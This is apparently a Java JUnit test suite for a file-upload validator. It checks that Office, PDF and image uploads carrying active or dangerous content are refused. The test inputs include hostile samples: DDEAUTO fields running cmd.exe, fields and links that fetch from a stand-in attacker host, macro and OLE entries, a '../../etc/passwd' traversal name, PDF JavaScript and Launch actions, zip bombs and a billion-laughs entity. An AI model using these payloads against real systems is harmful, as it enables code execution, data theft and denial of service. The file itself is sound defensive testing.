package vn.nennep.platform.files;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.poi.xslf.usermodel.XMLSlideShow;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Faults S-15 and S-17: what is taken is looked through by content; each file here is a real one, changed in one place. */
class FileKindTest {

    private static final String RELATIONS = "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
            + "<Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s\" Target=\"%s\" TargetMode=\"External\"/>"
            + "</Relationships>";
    private static final String BODY = "<?xml version=\"1.0\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p>%s</w:p></w:body></w:document>";

    @TempDir private Path folder;

    @Test
    void s17_takesWhatOfficesReallySend() throws IOException {
        assertThat(kind(word(), "đề cương.docx")).isEqualTo(FileKind.DOCX);
        assertThat(kind(slides(), "bài.PPTX")).isEqualTo(FileKind.PPTX);
        assertThat(kind(pdf("<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>"), "bản in.pdf")).isEqualTo(FileKind.PDF);
        assertThat(kind(picture("png"), "ảnh.png")).isEqualTo(FileKind.PNG);
        assertThat(kind(picture("jpg"), "ảnh.JPEG")).isEqualTo(FileKind.JPG);
        assertThat(kind("\0\0\0\u0018ftypisom....".getBytes(StandardCharsets.ISO_8859_1), "phim.mp4")).isEqualTo(FileKind.MP4);
        assertThat(kind(with(word(), "word/embeddings/Microsoft_Excel_Sheet1.xlsx", workbook()), "biểu đồ.docx")).isEqualTo(FileKind.DOCX);
        assertThat(kind(with(word(), "word/printerSettings/printerSettings1.bin", new byte[] {1, 2}), "in.docx")).isEqualTo(FileKind.DOCX);
    }

    @ParameterizedTest
    @CsvSource({
        "hyperlink,        https://dangcongsan.vn/,           ",
        "hyperlink,        mailto:vanphong@thanhbinh.example, ",
        "hyperlink,        file:////kesai/chiase,             file.external",
        "hyperlink,        \\\\\\\\kesai\\\\chiase,           file.external",
        "hyperlink,        javascript:alert(1),               file.external",
        "attachedTemplate, https://kesai.example/mau.dotm,    file.external",
        "image,            https://kesai.example/theo-doi.png, file.external",
        "oleObject,        file:///c:/a.exe,                  file.macro",
        "aFChunk,          https://kesai.example/a.html,      file.macro",
        "subDocument,      a.docx,                            file.macro",
        "frame,            https://kesai.example/,            file.macro",
    })
    void s17_nothingIsFetchedFromElsewhereWhenItIsOpened(String type, String target, String code) throws IOException {
        byte[] file = with(word(), "word/_rels/settings.xml.rels", RELATIONS.formatted(type, target).getBytes());
        verdict(file, "a.docx", code);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText></w:r>",
        "<w:fldSimple w:instr=\" DDE Excel a.xls r1c1 \"/>",
        "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO x y</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>",
        "<w:r><w:fldChar w:fldCharType=\"begin\"/><w:instrText> </w:instrText><w:fldChar w:fldCharType=\"begin\"/><w:instrText>QUOTE 68 68 69</w:instrText><w:fldChar w:fldCharType=\"end\"/></w:r>",
        "<w:fldSimple w:instr=\"INCLUDEPICTURE &quot;https://kesai.example/a.png&quot; \\d\"/>",
        "<w:r><w:fldChar w:fldCharType=\"begin\"/><w:instrText>includetext \"//kesai/a\"</w:instrText></w:r>"
    })
    void s17_noFieldStartsOrFetchesAnything(String content) throws IOException {
        verdict(with(word(), "word/document.xml", BODY.formatted(content).getBytes()), "a.docx", "file.external");
    }

    @Test
    void s17_fieldsOfAnHonestPaperAreTaken() throws IOException {
        String page = "<w:r><w:fldChar w:fldCharType=\"begin\"/><w:instrText> PAGE </w:instrText><w:fldChar w:fldCharType=\"separate\"/><w:t>1</w:t>"
                + "<w:fldChar w:fldCharType=\"end\"/></w:r><w:fldSimple w:instr=\" TOC \\o &quot;1-3&quot; \"/>"
                + "<w:r><w:t>LINK, INCLUDE và DDE chỉ là chữ</w:t></w:r>";
        verdict(with(word(), "word/document.xml", BODY.formatted(page).getBytes()), "a.docx", null);
    }

    @ParameterizedTest
    @CsvSource({
        "word/vbaProject.bin,                    file.macro",
        "word/vbaData.xml,                       file.macro",
        "word/activeX/activeX1.xml,              file.macro",
        "word/embeddings/oleObject1.bin,         file.macro",
        "word/embeddings/chuong-trinh.exe,       file.macro",
        "word/VBAPROJECT.BIN,                    file.macro",
        "word/something.bin,                     file.macro",
        "../../etc/passwd,                       file.broken",
        "WORD/DOCUMENT.XML,                      file.broken",
    })
    void s17_noCodeAndNoNameThatIsReadInTwoWays(String entry, String code) throws IOException {
        verdict(with(word(), entry, "x".getBytes()), "a.docx", code);
    }

    @Test
    void s17_codeIsFoundInsideAnEmbeddedWorkbookInItsTypesAndBehindASlidesButton() throws IOException {
        byte[] bad = with(workbook(), "xl/vbaProject.bin", new byte[] {1});
        verdict(with(word(), "word/embeddings/a.xlsx", bad), "a.docx", "file.macro");
        byte[] linked = with(workbook(), "xl/_rels/workbook2.xml.rels", RELATIONS.formatted("externalLinkPath", "//kesai/a.xlsx").getBytes());
        verdict(with(word(), "word/embeddings/a.xlsx", linked), "a.docx", "file.external");
        String types = new String(entries(word()).get("[Content_Types].xml"), StandardCharsets.UTF_8);
        verdict(with(word(), "[Content_Types].xml", types.replace("document.main+xml", "document.macroEnabled.main+xml").getBytes()), "a.docx", "file.macro");
        String slide = "<p:sld xmlns:p=\"p\" xmlns:a=\"a\"><a:hlinkClick action=\"ppaction://program\"/></p:sld>";
        verdict(with(slides(), "ppt/slides/slide9.xml", slide.getBytes()), "a.pptx", "file.macro");
    }

    @Test
    void s17_oneFileIsOneFile() throws IOException {
        byte[] two = concat("%PDF-1.7\n".getBytes(), word());
        verdict(two, "a.pdf", "file.broken");
        verdict(two, "a.docx", "file.notAllowed");
        verdict(concat(picture("png"), word()), "a.png", "file.broken");
        verdict(concat(word(), word()), "a.docx", "file.broken");
        verdict(concat(word(), "MZ".getBytes()), "a.docx", "file.broken");
        verdict(Arrays.copyOf(word(), 300), "a.docx", "file.broken");
        verdict("<html><script>alert(1)</script>".getBytes(), "a.docx", "file.notAllowed");
        verdict(word(), "a.pptx", "file.notAllowed");
        verdict(workbook(), "a.docx", "file.notAllowed");
    }

    @Test
    void s15_nothingUnpacksToMoreThanAComputerHolds() throws IOException {
        verdict(with(word(), "word/media/a.emf", new byte[40 * 1024 * 1024]), "a.docx", "file.bomb");
        Map<String, byte[]> many = entries(word());
        for (int i = 0; i < 10_001; i++) {
            many.put("word/media/" + i + ".png", new byte[0]);
        }
        verdict(zip(many), "a.docx", "file.bomb");
        byte[] inside = with(workbook(), "xl/media/a.emf", new byte[40 * 1024 * 1024]);
        verdict(with(word(), "word/embeddings/a.xlsx", inside), "a.docx", "file.bomb");
        String laughs = "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\">]><l>&b;</l>";
        verdict(with(word(), "word/document.xml", laughs.getBytes()), "a.docx", "file.broken");
    }

    @Test
    void s15_aPictureSaysHowLargeItIs() throws IOException {
        byte[] bomb = picture("png");
        ByteBuffer.wrap(bomb).putInt(16, 50_000).putInt(20, 50_000);
        CRC32 sum = new CRC32();
        sum.update(bomb, 12, 17);
        ByteBuffer.wrap(bomb).putInt(29, (int) sum.getValue());
        verdict(bomb, "a.png", "file.bomb");
        verdict(Arrays.copyOf(picture("png"), 20), "a.png", "file.broken");
        verdict(Arrays.copyOf(picture("jpg"), 8), "a.jpg", "file.broken");
    }

    @ParameterizedTest
    @CsvSource(delimiter = ';', value = {
        "<< /S /JavaScript /JS (app.alert\\(1\\)) >>; file.active",
        "<< /S /J#61vaScr#69pt >>; file.active",
        "<< /S /Launch /F (cmd.exe) >>; file.active",
        "<< /Names << /EmbeddedFiles 4 0 R >> >>; file.attachments",
        "<< /AcroForm << /XFA 5 0 R >> >>; file.active",
        "<< /Type /Annot /Subtype /RichMedia >>; file.active",
        "<< /Encrypt 9 0 R >>; file.locked",
        "<< /S /URI /URI (https://dangcongsan.vn/javascript) >>; ''",
        "<< /EncryptMetadata true /Title (Launch) >>; ''"
    })
    void s17_aPdfDoesAndBringsNothing(String object, String code) throws IOException {
        verdict(pdf(object), "a.pdf", code);
    }

    @Test
    void s17_norInsideItsCompressedObjects() throws IOException {
        verdict(objects("/FlateDecode", deflated("7 0 << /S /JavaScript >>".getBytes())), "a.pdf", "file.active");
        verdict(objects("[ /Fl ]", deflated("7 0 << /S /Launch >>".getBytes())), "a.pdf", "file.active");
        verdict(objects("/FlateDecode", deflated("7 0 << /Type /Page >>".getBytes())), "a.pdf", null);
        verdict(objects("[ /ASCII85Decode /FlateDecode ]", deflated("7 0 << >>".getBytes())), "a.pdf", "file.broken");
        verdict(objects("/FlateDecode", deflated(new byte[70 * 1024 * 1024])), "a.pdf", "file.bomb");
        verdict(objects("/FlateDecode", "không phải dữ liệu nén".getBytes()), "a.pdf", "file.broken");
    }

    private static byte[] objects(String filter, byte[] content) {
        return concat(
                ("%PDF-1.7\n7 0 obj << /Type /ObjStm /N 1 /First 4 /Filter " + filter + " /Length " + content.length + " >>\nstream\r\n").getBytes(),
                concat(content, "\nendstream\nendobj\n%%EOF\n".getBytes()));
    }

    private static byte[] deflated(byte[] content) {
        Deflater deflater = new Deflater();
        deflater.setInput(content);
        deflater.finish();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] buffer = new byte[8_192];
        while (!deflater.finished()) {
            out.write(buffer, 0, deflater.deflate(buffer));
        }
        deflater.end();
        return out.toByteArray();
    }

    private void verdict(byte[] content, String name, String code) throws IOException {
        if (code == null || code.isEmpty()) {
            assertThat(kind(content, name)).isNotNull();
        } else if (code.equals("file.notAllowed")) {
            assertThat(kind(content, name)).isNull();
        } else {
            assertThatThrownBy(() -> kind(content, name)).isInstanceOf(FileRefused.class).hasMessage(code);
        }
    }

    private FileKind kind(byte[] content, String name) throws IOException {
        Path file = Files.write(folder.resolve("upload"), content);
        return FileKind.of(file, name).orElse(null);
    }

    private static byte[] pdf(String object) {
        return ("%PDF-1.7\n1 0 obj\n" + object + "\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n").getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] picture(String format) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ImageIO.write(new BufferedImage(30, 20, BufferedImage.TYPE_INT_RGB), format, out);
        return out.toByteArray();
    }

    private static byte[] word() throws IOException {
        try (XWPFDocument document = new XWPFDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            document.createParagraph().createRun().setText("Cần, kiệm, liêm, chính.");
            document.write(out);
            return out.toByteArray();
        }
    }

    private static byte[] slides() throws IOException {
        try (XMLSlideShow show = new XMLSlideShow(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            show.createSlide();
            show.write(out);
            return out.toByteArray();
        }
    }

    private static byte[] workbook() throws IOException {
        try (XSSFWorkbook book = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            book.createSheet("Biểu đồ").createRow(0).createCell(0).setCellValue(1);
            book.write(out);
            return out.toByteArray();
        }
    }

    private static byte[] with(byte[] archive, String name, byte[] content) throws IOException {
        Map<String, byte[]> entries = entries(archive);
        entries.put(name, content);
        return zip(entries);
    }

    private static Map<String, byte[]> entries(byte[] archive) throws IOException {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        try (ZipInputStream in = new ZipInputStream(new java.io.ByteArrayInputStream(archive))) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                entries.put(entry.getName(), in.readAllBytes());
            }
        }
        return entries;
    }

    private static byte[] zip(Map<String, byte[]> entries) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (Map.Entry<String, byte[]> entry : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(entry.getKey()));
                zip.write(entry.getValue());
            }
        }
        return bytes.toByteArray();
    }

    private static byte[] concat(byte[] first, byte[] second) {
        return ByteBuffer.allocate(first.length + second.length).put(first).put(second).array();
    }
}
